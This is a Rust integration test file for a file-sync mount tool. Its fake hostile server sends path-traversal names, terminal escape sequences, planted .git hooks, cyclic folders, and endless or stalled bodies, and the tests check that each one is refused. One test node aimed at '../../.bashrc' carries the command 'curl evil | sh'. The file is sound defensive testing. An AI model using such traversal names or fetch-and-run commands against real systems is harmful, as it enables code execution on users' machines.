//! A hostile platform against a real mount (docs/reliability.md, "Security"). Each test attacks
//! the way a platform that lies (or anything between us and it) would, and asserts the attack
//! failed: nothing written outside the mirror, the rest of the account still synced, memory
//! flat, the reader killable, and status naming the refusal.

mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use common::hostile::{node, Content, HostilePlatform, Script};
use common::{wait_until, MountProcess};
use serde_json::json;

const WAIT: Duration = Duration::from_secs(20);

/// Every file and folder under `dir` (not following links), relative to it.
fn walk(dir: &Path) -> BTreeSet<PathBuf> {
    let mut out = BTreeSet::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            if e.file_type().is_ok_and(|t| t.is_dir()) {
                todo.push(p.clone());
            }
            out.insert(p.strip_prefix(dir).unwrap().to_path_buf());
        }
    }
    out
}

/// A mount of the hostile platform whose mirror sits three folders deep in the scratch home, so
/// that a name climbing out of it still lands where the test can see it.
fn mount(platform: &HostilePlatform, env: &[(&str, &str)]) -> MountProcess {
    let mut m = MountProcess::prepare(&platform.url(), env);
    m.mirror = m.home.path().join("a/b/mirror");
    m.spawn();
    m
}

/// Files outside the places a mount may write: its mirror, its state under `home/`, the mount.
fn strays(m: &MountProcess) -> Vec<PathBuf> {
    let allowed = [Path::new("a/b/mirror"), Path::new("home"), Path::new("mnt")];
    walk(m.home.path())
        .into_iter()
        .filter(|p| {
            !allowed.iter().any(|a| p.starts_with(a)) && !allowed.iter().any(|a| a.starts_with(p))
        })
        .collect()
}

fn status_problems(m: &MountProcess) -> String {
    let out = m
        .command()
        .arg("status")
        .arg(&m.mountpoint)
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_from_the_platform_never_leave_the_mirror() {
    let escape = format!("hyperclay-escape-{:x}", rand::random::<u64>());
    let deep_escape = format!("../../../../../../../../../../tmp/{escape}");
    let long = "x".repeat(300);
    let platform = HostilePlatform::start(Script {
        // Terminal escapes in the account's name: clear the screen, set the title.
        username: "mallory\u{1b}[2J\u{1b}]0;pwned\u{7}".into(),
        nodes: vec![
            node(1, "site", "good.html", "", 0, b"<html>good</html>"),
            node(2, "upload", "../../.bashrc", "", 0, b"curl evil | sh"),
            node(3, "upload", &deep_escape, "", 0, b"x"),
            node(4, "upload", "/etc/hyperclay-abs", "", 0, b"x"),
            node(5, "folder", ".hyperclay", "", 0, b""),
            node(6, "upload", "index.db", ".hyperclay", 5, b"garbage"),
            node(7, "folder", "sites-versions", "", 0, b""),
            node(8, "folder", ".git", "", 0, b""),
            node(9, "upload", "hooks", ".git", 8, b"#!/bin/sh"),
            node(10, "folder", "blog", "", 0, b""),
            node(11, "upload", "a/b.png", "blog", 10, b"x"),
            node(12, "upload", "", "blog", 10, b"x"),
            node(13, "upload", &long, "blog", 10, b"x"),
            node(14, "folder", "c1", "c2", 15, b""),
            node(15, "folder", "c2", "c1", 14, b""),
            node(16, "upload", "dup.png", "", 0, b"first"),
            node(16, "upload", "dup2.png", "", 0, b"second"),
            node(17, "upload", "liar.png", "elsewhere", 10, b"x"),
            node(18, "upload", "fine.png", "blog", 10, b"fine"),
        ],
        content: [
            (1, Content::Bytes(b"<html>good</html>".to_vec())),
            (2, Content::Bytes(b"curl evil | sh".to_vec())),
            (18, Content::Bytes(b"fine".to_vec())),
        ]
        .into_iter()
        .collect(),
        // Renames and moves that try to climb out, sent once the mount has the listing.
        events: vec![
            json!({"type": "node-renamed", "nodeId": 1, "nodeType": "site", "oldName": "good.html",
                   "newName": "../../renamed.html", "oldPath": "good.html", "newPath": "../../renamed.html"}),
            json!({"type": "node-moved", "nodeId": 18, "nodeType": "upload", "name": "fine.png",
                   "oldName": "fine.png", "newName": "../../../moved.png", "oldPath": "blog/fine.png",
                   "newPath": "../../../moved.png", "oldParentId": 10, "newParentId": 0}),
            json!({"type": "node-saved", "nodeId": 40, "nodeType": "site", "name": "../../saved.html",
                   "path": "../../saved.html", "checksum": hyperclay::protocol::checksum(b"x"),
                   "modifiedAt": "2026-11-01T00:00:00.000Z", "content": "x", "parentId": 0}),
        ],
        events_delay: Duration::from_secs(2),
        ..Script::default()
    })
    .await;
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    let bashrc = std::fs::read(home.join(".bashrc")).ok();
    let home_entries = |dir: &Path| -> BTreeSet<String> {
        std::fs::read_dir(dir)
            .map(|d| {
                d.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default()
    };
    let home_before = home_entries(&home);
    let m = mount(&platform, &[]);
    let mirror = m.mirror.clone();
    // What is fine still syncs.
    assert!(
        wait_until(WAIT, || std::fs::read(m.path("blog/fine.png"))
            .is_ok_and(|b| b == b"fine"))
        .is_some(),
        "the nodes with good names come down"
    );
    assert_eq!(
        std::fs::read(m.path("good.html")).unwrap(),
        b"<html>good</html>"
    );
    // The events came and went (their frames follow the listing by 2 s).
    std::thread::sleep(Duration::from_secs(4));
    assert!(
        m.path("good.html").exists(),
        "a rename out of the mirror is not followed"
    );
    assert!(
        m.path("blog/fine.png").exists(),
        "a move out of the mirror is not followed"
    );

    assert_eq!(
        strays(&m),
        Vec::<PathBuf>::new(),
        "nothing outside the mirror"
    );
    assert!(!Path::new("/tmp").join(&escape).exists());
    assert!(!Path::new("/etc/hyperclay-abs").exists());
    assert_eq!(
        std::fs::read(format!("{}/.bashrc", std::env::var("HOME").unwrap())).ok(),
        bashrc,
        "the user's .bashrc is untouched"
    );
    let new_in_home: Vec<String> = home_entries(&home)
        .difference(&home_before)
        .filter(|n| {
            n.contains("renamed")
                || n.contains("moved")
                || n.contains("saved")
                || n.contains("hyperclay")
        })
        .cloned()
        .collect();
    assert!(
        new_in_home.is_empty(),
        "nothing new in $HOME: {new_in_home:?}"
    );
    // Ours stay ours: the index is the index, no .git planted, no backups folder taken over.
    assert!(!mirror.join(".git").exists());
    let index = std::fs::read(mirror.join(".hyperclay/index.db")).unwrap();
    assert!(index.starts_with(b"SQLite format 3"), "the index is intact");
    assert!(!mirror.join("sites-versions/index.db").exists());
    // Every folder lists (a name with a / or an empty one made `ls` fail with EIO before).
    for dir in ["", "blog"] {
        let listed = std::fs::read_dir(m.path(dir)).unwrap().count();
        assert!(listed > 0, "{dir:?} lists");
    }
    let names: BTreeSet<String> = std::fs::read_dir(m.path(""))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(
        names,
        ["blog", "dup.png", "good.html", "sites-versions"]
            .map(String::from)
            .into(),
        "only the good nodes are placed (the first of a duplicate id)"
    );
    // Status names the refusal; the log has one line per refused node, with the real reason.
    let status = status_problems(&m);
    assert!(
        status.contains("the platform sent a name that can't be a file here"),
        "{status}"
    );
    assert!(
        !status.contains('\u{1b}') && !status.contains('\u{7}'),
        "no terminal escapes: {status:?}"
    );
    assert!(
        status.contains(&format!(
            "{} (HYPERCLAY_URL in the environment)",
            platform.url()
        )),
        "status names the address and where it came from: {status}"
    );
    let log = m.log();
    assert!(
        log.contains("a name longer than 255 bytes"),
        "the real reason"
    );
    assert!(log.contains("its folders form a cycle"));
    assert!(log.contains("it is inside a refused folder (node 5)"));
    assert!(log.contains("is listed twice"));
    assert!(log.contains("disagrees with its folders"));
    assert!(!log.contains('\u{1b}'), "no terminal escapes in the log");
    let refusals = log
        .lines()
        .filter(|l| l.contains("can't be a file here: skipped") && l.contains("node=2 "))
        .count();
    assert_eq!(refusals, 1, "logged once, not once per listing");
}

/// A chain of `levels` folders `d1/d2/...` (ids 1000 and on), listed parents first.
fn folder_chain(levels: u64) -> Vec<serde_json::Value> {
    let mut path = String::new();
    let mut nodes = Vec::new();
    for i in 1..=levels {
        let name = format!("d{i}");
        let parent = if i == 1 { 0 } else { 999 + i - 1 };
        nodes.push(node(999 + i, "folder", &name, &path, parent, b""));
        path = if path.is_empty() {
            name
        } else {
            format!("{path}/{name}")
        };
    }
    nodes
}

/// Issue 26: a folder chain deeper than the mirror takes (256) stopped all syncing: every
/// listing failed, the stream never opened, an honest site never arrived. The part too deep is
/// refused, in one status line; the rest syncs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_folder_chain_too_deep_is_refused_once_and_the_rest_syncs() {
    let mut nodes = folder_chain(300);
    nodes.push(node(
        1,
        "site",
        "honest.html",
        "",
        0,
        b"<html>honest</html>",
    ));
    let platform = HostilePlatform::start(Script {
        username: "mallory".into(),
        nodes,
        content: [(1, Content::Bytes(b"<html>honest</html>".to_vec()))]
            .into_iter()
            .collect(),
        ..Script::default()
    })
    .await;
    let m = mount(&platform, &[]);
    assert!(
        wait_until(WAIT, || std::fs::read(m.path("honest.html"))
            .is_ok_and(|b| b == b"<html>honest</html>"))
        .is_some(),
        "the honest site arrives"
    );
    // The listing was taken (before, every listing failed and status said "last sync: not
    // yet" for good).
    assert!(
        wait_until(WAIT, || !status_problems(&m).contains("last sync: not yet")).is_some(),
        "a sync completes: {}",
        status_problems(&m)
    );
    // 256 folders are there; the 257th is not.
    let deepest: PathBuf = (1..=256).map(|i| format!("d{i}")).collect();
    assert!(m.mirror.join(&deepest).is_dir(), "256 levels sync");
    assert!(!m.mirror.join(deepest.join("d257")).exists());
    let status = status_problems(&m);
    assert_eq!(
        status.matches("deeper than 256 folders").count(),
        1,
        "status names the refused part once: {status}"
    );
    assert!(status.contains("\"d257\""), "{status}");
    assert!(status.contains("43 nodes inside it"), "{status}");
    let log = m.log();
    assert_eq!(
        log.lines()
            .filter(|l| l.contains("can't be a file here: skipped"))
            .count(),
        1,
        "logged once"
    );
}

/// Issue 26: a listing of 700,003 folders (under the 48 MiB cap) took 711 MB and made 2.85 GB
/// of folders. Past the bound (lowered here with `HYPERCLAY_MAX_LISTING_NODES`) the rest is
/// refused in one status line, and what is taken still syncs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_listing_over_the_node_bound_is_refused_past_it_in_one_line() {
    let mut nodes = vec![node(1, "site", "index.html", "", 0, b"<html>top</html>")];
    nodes.push(node(2, "folder", "many", "", 0, b""));
    for i in 0..300 {
        nodes.push(node(100 + i, "folder", &format!("f{i}"), "many", 2, b""));
    }
    let platform = HostilePlatform::start(Script {
        username: "mallory".into(),
        nodes,
        content: [(1, Content::Bytes(b"<html>top</html>".to_vec()))]
            .into_iter()
            .collect(),
        ..Script::default()
    })
    .await;
    let m = mount(&platform, &[("HYPERCLAY_MAX_LISTING_NODES", "100")]);
    assert!(
        wait_until(WAIT, || std::fs::read(m.path("index.html"))
            .is_ok_and(|b| b == b"<html>top</html>"))
        .is_some(),
        "the site at the top arrives"
    );
    let status = status_problems(&m);
    assert_eq!(
        status
            .matches("more than one account may bring here")
            .count(),
        1,
        "one line: {status}"
    );
    assert!(
        status.contains("the first 100 (the shallowest) sync, the other 202 are not synced"),
        "{status}"
    );
    assert_eq!(
        std::fs::read_dir(m.mirror.join("many")).unwrap().count(),
        98,
        "only the bound's worth of folders is made"
    );
}

/// Issue 26: a listing of 700,003 nodes in 46.5 MiB (under the 48 MiB cap) was read whole and
/// parsed whole before the node bound applied: 330 MB at the peak. It is now parsed as it
/// arrives, keeping only the bound's worth of nodes (lowered here to 1,000 with
/// `HYPERCLAY_MAX_LISTING_NODES`, so that what is measured is the listing, not 200,000 folders
/// made in the mirror) and the ids of the rest: the mount's peak stays small and the bound's
/// line counts every node.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_huge_listing_is_read_as_it_comes_and_memory_stays_small() {
    let site = b"<html>top</html>";
    let listing = common::hostile::folders_listing(700_001, site);
    assert!(listing.len() < 48 << 20, "under the listing cap");
    let platform = HostilePlatform::start(Script {
        username: "mallory".into(),
        listing: Some(listing),
        content: [(1, Content::Bytes(site.to_vec()))].into_iter().collect(),
        ..Script::default()
    })
    .await;
    let m = mount(&platform, &[("HYPERCLAY_MAX_LISTING_NODES", "1000")]);
    let inside = m.mirror.join("m");
    assert!(
        wait_until(Duration::from_secs(120), || {
            std::fs::read_dir(&inside).map_or(0, |d| d.count()) >= 998
                && std::fs::read(m.path("index.html")).is_ok_and(|b| b == site)
        })
        .is_some(),
        "the bound's worth of the listing syncs\n{}",
        m.log()
    );
    let status = status_problems(&m);
    assert!(
        status.contains("the platform listed 700003 nodes")
            && status
                .contains("the first 1000 (the shallowest) sync, the other 699003 are not synced"),
        "{status}"
    );
    assert_eq!(std::fs::read_dir(&inside).unwrap().count(), 998);
    let peak = rss(m.pid());
    eprintln!(
        "peak RSS with a 700,003-node listing: {:.1} MB",
        peak as f64 / 1e6
    );
    assert!(
        peak < 100 * 1024 * 1024,
        "the listing never sits in memory whole: peak {peak}"
    );
}

/// The most resident memory a process has had (the kernel's high-water mark), in bytes.
fn rss(pid: i32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse::<u64>().ok())
        .unwrap_or(0)
        * 1024
}

/// An upload whose body never ends, over raw and over JSON, and an event frame that never ends:
/// each is cut at its limit, nothing over 20 MiB reaches the mirror, memory stays flat.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_without_end_are_cut_and_memory_stays_flat() {
    let platform = HostilePlatform::start(Script {
        username: "mallory".into(),
        nodes: vec![
            node(1, "upload", "endless.bin", "", 0, b"whatever"),
            node(2, "upload", "fine.png", "", 0, b"fine"),
        ],
        content: [(1, Content::Endless), (2, Content::Bytes(b"fine".to_vec()))]
            .into_iter()
            .collect(),
        events_delay: Duration::from_millis(500),
        endless_frame: true,
        ..Script::default()
    })
    .await;
    let m = mount(&platform, &[]);
    let pid = m.pid();
    let mut peak = 0;
    let mut biggest_file = 0;
    let started = Instant::now();
    // The background fetch of endless.bin runs as soon as the listing is in; watch it for 8 s
    // (at loopback speed, far more than 20 MiB could have come).
    while started.elapsed() < Duration::from_secs(8) {
        peak = peak.max(rss(pid));
        for f in walk(&m.mirror) {
            if let Ok(meta) = std::fs::metadata(m.mirror.join(&f)) {
                if meta.is_file() {
                    biggest_file = biggest_file.max(meta.len());
                }
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        biggest_file <= hyperclay::protocol::MAX_CONTENT_BYTES + 1,
        "no file over the limit in the mirror: {biggest_file}"
    );
    assert!(
        !m.mirror.join("endless.bin").exists(),
        "the endless upload is dropped"
    );
    assert_eq!(std::fs::read(m.path("fine.png")).unwrap(), b"fine");
    assert!(
        peak < 100 * 1024 * 1024,
        "resident memory stays under 100 MB: {peak}"
    );
    eprintln!("peak RSS under endless bodies: {:.1} MB", peak as f64 / 1e6);
    let status = status_problems(&m);
    assert!(status.contains("larger than"), "status says why: {status}");
    let log = m.log();
    assert!(
        log.contains("larger than 20971520 bytes"),
        "the log says why"
    );
    assert!(log.contains("an event larger than the limit"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_listing_without_end_is_cut() {
    let platform = HostilePlatform::start(Script {
        username: "mallory".into(),
        endless_listing: true,
        ..Script::default()
    })
    .await;
    let m = mount(&platform, &[]);
    let pid = m.pid();
    let mut peak = 0;
    let cut = wait_until(WAIT, || {
        peak = peak.max(rss(pid));
        m.log().contains("the listing larger than")
    });
    assert!(cut.is_some(), "the listing is cut at its limit");
    peak = peak.max(rss(pid));
    eprintln!(
        "peak RSS under an endless listing: {:.1} MB",
        peak as f64 / 1e6
    );
    assert!(
        peak < 100 * 1024 * 1024,
        "resident memory stays under 100 MB: {peak}"
    );
    assert!(
        std::fs::read_dir(m.path("")).is_ok(),
        "the mount still works"
    );
}

/// A platform that trickles a byte every 20 s: a reader waiting for it ends at once when
/// killed, and the mount still unmounts in time.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reader_waiting_on_a_trickle_dies_at_once_when_killed() {
    let platform = HostilePlatform::start(Script {
        username: "mallory".into(),
        nodes: vec![node(1, "upload", "slow.bin", "", 0, b"never all of it")],
        content: [(1, Content::Trickle(Duration::from_secs(20)))]
            .into_iter()
            .collect(),
        ..Script::default()
    })
    .await;
    // Fetched on first read only: the read is what waits.
    let m = mount(&platform, &[("HYPERCLAY_PREFETCH", "0")]);
    assert!(wait_until(WAIT, || m.path("slow.bin").exists()).is_some());
    let mut reader = Command::new("cat").arg(m.path("slow.bin")).spawn().unwrap();
    std::thread::sleep(Duration::from_secs(1));
    assert!(
        reader.try_wait().unwrap().is_none(),
        "the reader waits for the fetch"
    );
    let killed = Instant::now();
    reader.kill().unwrap();
    reader.wait().unwrap();
    let took = killed.elapsed();
    eprintln!("a killed reader ended after {took:?}");
    assert!(
        took < Duration::from_secs(1),
        "kill -9 ends the reader at once: {took:?}"
    );
    // Unmount finishes within its limit although the fetch still trickles.
    let unmounting = Instant::now();
    let out = m
        .command()
        .arg("unmount")
        .arg(&m.mountpoint)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}\nthe mount's log:\n{}",
        String::from_utf8_lossy(&out.stderr),
        m.log()
    );
    assert!(
        unmounting.elapsed() < Duration::from_secs(15),
        "unmount took {:?}",
        unmounting.elapsed()
    );
    assert!(!hyperclay::fs::is_mounted(&m.mountpoint));
}

/// A transfer that makes no progress for the progress limit is abandoned: the reader gets an
/// error instead of waiting for the whole-request limit (minutes).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stalled_transfer_is_abandoned() {
    let platform = HostilePlatform::start(Script {
        username: "mallory".into(),
        nodes: vec![node(1, "upload", "stalled.bin", "", 0, b"never all of it")],
        content: [(1, Content::Trickle(Duration::from_secs(20)))]
            .into_iter()
            .collect(),
        ..Script::default()
    })
    .await;
    let m = mount(
        &platform,
        &[
            ("HYPERCLAY_PREFETCH", "0"),
            ("HYPERCLAY_PROGRESS_TIMEOUT_SECS", "2"),
        ],
    );
    assert!(wait_until(WAIT, || m.path("stalled.bin").exists()).is_some());
    let started = Instant::now();
    let read = std::fs::read(m.path("stalled.bin"));
    let took = started.elapsed();
    assert!(read.is_err(), "the stalled fetch fails");
    assert!(
        took < Duration::from_secs(6),
        "after the progress limit, not minutes: {took:?}"
    );
    assert!(m.log().contains("the platform stopped sending content"));
}

/// A platform that answers the event stream and drops it at once is not hammered: reconnects
/// back off 1, 2, 4 ... s (they came 2.5 times a second before, each with a warning).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stream_dropped_at_once_is_retried_with_backoff() {
    let platform = HostilePlatform::start(Script {
        username: "mallory".into(),
        drop_streams: true,
        ..Script::default()
    })
    .await;
    let m = mount(&platform, &[]);
    let streams = || {
        platform
            .requests()
            .iter()
            .filter(|r| r.ends_with("/stream"))
            .count()
    };
    assert!(wait_until(WAIT, || streams() >= 1).is_some());
    let first = Instant::now();
    std::thread::sleep(Duration::from_secs(5));
    let tries = streams();
    // Tries at 0, then after waits of 1, 2 and 4 s, each ±20 %: the 4th comes at 5.6 s at the
    // earliest, so at most 3 in the first 5 s (a 6 s window let a 4th in when every wait drew
    // short: a flake under load); a fixed 250 ms retry would make 20.
    assert!(
        (2..=3).contains(&tries),
        "{tries} stream requests in {:?}",
        first.elapsed()
    );
    assert!(m.path("").exists());
}
